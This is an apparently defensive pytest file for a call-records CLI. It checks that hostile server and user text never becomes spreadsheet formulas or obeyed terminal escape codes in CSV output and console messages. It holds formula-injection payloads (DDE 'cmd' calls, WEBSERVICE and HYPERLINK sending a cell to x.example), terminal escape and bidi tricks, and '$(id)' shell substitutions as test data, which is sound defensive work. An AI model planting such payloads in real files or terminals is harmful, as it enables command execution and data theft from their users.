"""Hostile texts for spreadsheets and terminals: no formula runs, no escape is obeyed, numbers stay.

The texts come from a server, as fields of calls and as messages, and from a user, as the name of the output.
"""

from __future__ import annotations

import asyncio
import contextlib
import csv
import fcntl
import importlib.util
import io
import json
import os
import pty
import re
import shutil
import struct
import subprocess
import sys
import termios
import unicodedata

import pytest

from tests.bulk.small_server import Answer, SmallServer
from tests.cli.conftest import inside, launch, servetel
from tests.sinks.spreadsheets import QUOTES, SEPARATORS, SIGNS, UNSEEN, cells, is_formula, without_guards
from tests.torture.report import TORTURE, measured
from tests.transport.conftest import connect, loop_log, stack
from tests.transport.leaks import TOKEN

__all__ = ["connect", "inside", "launch", "loop_log", "servetel", "stack"]

pytestmark = pytest.mark.timeout(3600 if TORTURE else 60)

FORMULAS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"open")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
    'WEBSERVICE("http://x.example/"&A1)',
    'DDE("cmd";"/C calc";"!A0")',
)
TERMINAL = (
    *(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))),
    *("\x1b[31mred", "\x1b[2J\x1b[H", "\x1b[8mhidden", "\x1b[1A\x1b[2Kgone", "\x1bc", "\x1b(0", "\x1b[5n", "\x1b[6n"),
    *(
        "\x1b]0;title\x07",
        "\x1b]8;;http://x.example\x1b\\text\x1b]8;;\x1b\\",
        "\x1b]52;c;Y2FsYw==\x07",
        "\x1bP1$r\x1b\\",
    ),
    *(
        "\x9b31mred",
        "\x9d0;title\x9c",
        "\x90q\x9c",
        "\x1b_G\x1b\\",
        "\x1b^x\x1b\\",
        "\x1b[?1049h",
        "\x1b[201~",
        "\r100 %",
    ),
    *("a\bb\bc", "\u202egnp.exe", "\u2066left\u2069", "\u202aa\u202c", "\u200fx", "a\u2028b", "a\u2029b", "\ufff9x"),
    *("\ud800", "x\udfff", "\U000e0041tag", "[red]x[/red]", "[link=http://x.example]x[/link]", "%s %n {0} $(id) `id`"),
)
TEXTS = tuple(
    dict.fromkeys(
        (
            *(sign + formula for sign in SIGNS for formula in FORMULAS),
            *(unseen + sign + FORMULAS[1] for unseen in UNSEEN for sign in ("=", "@", "\uff1d")),
            *(
                "=",
                "+",
                "-",
                "@",
                "==1",
                "=\t1",
                "+=1",
                "-=1",
                "@=1",
                "+1+1",
                "-1+1",
                "--1",
                "+919876543210+1",
                "+ 12345678",
            ),
            *(
                "+123",
                "-5",
                "+1e9",
                "+1234567890123456",
                "-919876543210",
                '"=1',
                '","=1',
                "a\r\n=1",
                "a\n=1,=1",
                '"\r\n=1',
                *(
                    f"x{separator}{quote}{sign}1+1"
                    for separator in ",;|\t\r\n"
                    for quote in ("", '"', "'")
                    for sign in SIGNS[:5]
                ),
            ),
            *TERMINAL,
            *(text + "=1" for text in TERMINAL[-12:]),
        )
    )
)
NUMBERS = (
    "+911234567890",
    "911234567890",
    "+441632960961",
    "+123456",
    "+123456789012345",
    "00911234567890",
    "1800123456",
)
DAY = "2024-05-06"
#: Fields of a call that hold text, each with a hostile one; ``notes`` may hold anything.
FIELDS = ("agent_name", "description", "notes", "status", "recording_url", "department_name", "custom_status")


def test_there_are_two_hundred_texts():
    """There are two hundred different texts, as promised."""
    assert len(TEXTS) >= 200


# Spreadsheets --------------------------------------------------------------------------------------------------------------


def call(number):
    text = TEXTS[number % len(TEXTS)]
    fields = dict.fromkeys(FIELDS, text)
    fields["client_number"] = NUMBERS[number % len(NUMBERS)]
    return fields | {"missed_agents": [text], "contact_details": {text: text}, "call_flow": [{"name": text}], text: 1}


def hostile(asked):
    records = [
        {"id": key, "date": start[:10], "time": start[11:], **call(int(key.removeprefix("call-")))}
        for start, key in asked.rows
    ]
    page = {
        "count": len(asked.found),
        "limit": asked.limit,
        "size": len(records),
        "page": asked.page,
        "results": records,
    }
    return Answer(body=json.dumps(page).encode())


def hostile_calls():
    return [
        (f"{DAY} 10:{number // 60:02}:{number % 60:02}", f"call-{number:04}")
        for number in range(len(TEXTS) - 1, -1, -1)
    ]


async def pulled(connect, path):
    """Pull calls in which every text is hostile; returns the rows of the file, split at its own separators."""
    async with SmallServer(hostile_calls(), hostile) as server:
        receipt = await connect(server.base_url, page_size=1000).pull(path, DAY, DAY)
    assert receipt.complete
    assert receipt.records == len(TEXTS)
    header, *rows = csv.reader(io.StringIO(path.read_bytes().decode(), newline=""), strict=True)
    assert len(rows) == len(TEXTS)
    return [dict(zip(header, row, strict=True)) for row in rows]


async def test_no_cell_is_a_formula(connect, tmp_path):
    """A CSV file has 0 formulas in any field, every number unchanged, and every text readable."""
    rows = await pulled(connect, tmp_path / "calls.csv")

    data = (tmp_path / "calls.csv").read_bytes()
    readings = [(separators, quote) for separators in SEPARATORS.values() for quote in QUOTES.values()]
    seen = [cell for reading in readings for cell in cells(data, *reading)]
    formulas = [cell for cell in seen if is_formula(cell)]
    changed = 0
    for row in rows:
        number = int(row["id"].removeprefix("call-"))
        changed += row["client_number"] != NUMBERS[number % len(NUMBERS)]
        text = TEXTS[number].encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\u2400")
        for name in FIELDS:
            assert without_guards(row[name]) == without_guards(text), (name, row[name])
    measured(
        "P14",
        f"{len(TEXTS)} hostile texts in a CSV file, read with {len(readings)} pairs of separators and quotes into "
        f"{len(seen):,} cells: {len(formulas)} formulas, "
        f"{changed} of {len(rows)} numbers changed",
    )
    assert (formulas, changed) == ([], 0)


@pytest.mark.skipif(importlib.util.find_spec("openpyxl") is None, reason="openpyxl is not installed")
async def test_a_workbook_made_of_it_has_no_formula(connect, tmp_path):
    """A workbook that is copied from the file cell by cell has no formula."""
    import openpyxl

    rows = await pulled(connect, tmp_path / "calls.csv")
    sheet = openpyxl.Workbook().active
    for row in rows:
        sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row.values()])
    assert [cell.value for cells in sheet.iter_rows() for cell in cells if cell.data_type == "f"] == []


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("separators", ["44", "59", "9", "44/59/9", "124"])
@pytest.mark.parametrize("quote", ["34", ""])
async def test_libreoffice_finds_no_formula(separators, quote, connect, tmp_path):
    """LibreOffice finds no formula, with evaluation turned on and at each separator."""
    import openpyxl

    await pulled(connect, tmp_path / "calls.csv")
    (tmp_path / "seen.csv").write_bytes(b"=1+1\r\n")
    tokens = f"CSV:{separators},{quote},76,1,,0,false,true,false,false,false,0,true"
    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--norestore"]
    convert = ["--convert-to", "xlsx", "--outdir", str(tmp_path), f"--infilter={tokens}"]
    files = [str(tmp_path / name) for name in ("calls.csv", "seen.csv")]
    done = await asyncio.to_thread(subprocess.run, [*command, *convert, *files], capture_output=True, timeout=55)
    assert done.returncode == 0, done.stderr

    def formulas(name):
        sheet = openpyxl.load_workbook(tmp_path / name).active
        return [cell.value for cells in sheet.iter_rows() for cell in cells if cell.data_type == "f"]

    assert formulas("seen.xlsx") == ["=1+1"]
    assert formulas("calls.xlsx") == []


def test_the_rule_knows_formulas():
    """The check works: without the quote, most of these texts are formulas."""
    assert is_formula("=1+1")
    assert is_formula("\t@SUM(1)")
    assert not is_formula("'=1+1")
    assert not any(map(is_formula, NUMBERS))
    assert sum(map(is_formula, TEXTS)) > 130


# Terminals -----------------------------------------------------------------------------------------------------------------


def obeyed(data):
    """The characters of an output that a terminal obeys, or that are invisible."""
    return {character for character in data.decode() if not (character.isprintable() or character == "\n")}


async def test_no_message_is_obeyed_by_a_terminal(inside, tmp_path):
    """For a hostile message or header, both streams hold only line breaks and visible characters."""
    found = set()
    told = 0
    message = ""

    def refuse(_asked):
        body = json.dumps({"success": False, "message": f"no: {message}"}).encode()
        retry = unicodedata.normalize("NFKD", message).encode("ascii", "ignore").decode()
        return Answer(status=422, body=body, headers={"Retry-After": re.sub(r"[\x00-\x1f\x7f]", "", retry)})

    async with SmallServer([], refuse) as server:
        environment = {"SERVETEL_BASE_URL": server.base_url, "SERVETEL_TOKEN": TOKEN}
        for text in TEXTS:
            message = text
            ended = await inside(
                "pull", "calls.csv", "--from-date", DAY, "--to-date", DAY, "--rate", "0", **environment
            )
            assert ended.code == 2, ended.err
            told += b"HTTP 422" in ended.err
            found |= obeyed(ended.out + ended.err)
    assert told == len(TEXTS)
    measured("P14", f"{len(TEXTS)} hostile messages of a server on a terminal: {len(found)} control characters")
    assert found == set()


NAMES = tuple(text.replace("/", "_") for text in TEXTS if text.isprintable() is False and text not in ("\0", "\ud800"))
NAMES = tuple(name for name in NAMES if "\0" not in name and not re.search("[\ud800-\udfff]", name))


async def test_no_name_is_obeyed_by_a_terminal(inside, tmp_path):
    """Hostile names of an output, an option and a column are spelt out, also in events and in the receipt."""
    found = set()
    async with SmallServer(hostile_calls()[:3], hostile) as server:
        environment = {"SERVETEL_BASE_URL": server.base_url, "SERVETEL_TOKEN": TOKEN}
        asked = ("--from-date", DAY, "--to-date", DAY, "--rate", "0")
        for name in NAMES if TORTURE else NAMES[::6]:
            for arguments, code in (
                (("pull", f"./{name}.csv", *asked), 0),
                (("pull", f"./{name}.csv", *asked), 2),
                (("pull", f"./{name}.csv", "--overwrite", "--json", *asked), 0),
                (("check", f"./{name}.csv", "--rate", "0"), 0),
                (("pull", f"./{name}", *asked), 2),
                (("pull", "x.csv", f"--{name}", *asked), 2),
                (("pull", "x.csv", "--columns", name, *asked), 2),
                (("pull", "x.csv", "--direction", name, *asked), 2),
                ((name,), 2),
            ):
                ended = await inside(*arguments, **environment)
                assert ended.code == code, (arguments, ended)
                found |= obeyed(ended.out + ended.err)
    measured(
        "P14", f"{len(NAMES if TORTURE else NAMES[::6])} hostile names on a terminal: {len(found)} control characters"
    )
    assert found == set()


#: The bar's own codes: the cursor, its colours, and the end of its line.
OF_THE_BAR = re.compile(rb"\x1b\[(\?25[hl]|2K|1A|[\d;]*m)|\r")


async def test_beside_the_bar_nothing_is_obeyed(tmp_path):
    """On a real terminal with a bar, there is no control byte except the bar's own."""
    name = "\x1b]0;title\x07\u202e[red]x[_red].csv"

    def late(asked):
        return (
            hostile(asked)
            if asked.nth % 2
            else Answer(status=503, body=json.dumps({"message": TERMINAL[-20]}).encode())
        )

    async with SmallServer(hostile_calls(), late) as server:
        ours, theirs = pty.openpty()
        fcntl.ioctl(theirs, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 120, 0, 0))
        kept = {key: value for key, value in os.environ.items() if not key.startswith(("SERVETEL", "PYTHON"))}
        asked = (f"{tmp_path}/{name}", "--from-date", DAY, "--to-date", DAY, "--rate", "0", "--page-size", "20")
        process = subprocess.Popen(
            [sys.executable, "-m", "servetel_async", "pull", *asked],
            stdin=subprocess.DEVNULL,
            stdout=theirs,
            stderr=theirs,
            env={
                **kept,
                "SERVETEL_BASE_URL": server.base_url,
                "SERVETEL_TOKEN": TOKEN,
                "TERM": "xterm",
                "PYTHONUTF8": "1",
            },
        )
        os.close(theirs)
        shown = await asyncio.to_thread(read_all, ours)
        code = await asyncio.to_thread(process.wait)
    assert code == 0, shown
    assert b"\x1b[?25l" in shown, "there was no bar"
    assert obeyed(OF_THE_BAR.sub(b"", shown)) == set()


def read_all(descriptor):
    """All output of a terminal until its other end is closed."""
    shown = b""
    with contextlib.suppress(OSError):
        while more := os.read(descriptor, 65536):
            shown += more
    os.close(descriptor)
    return shown
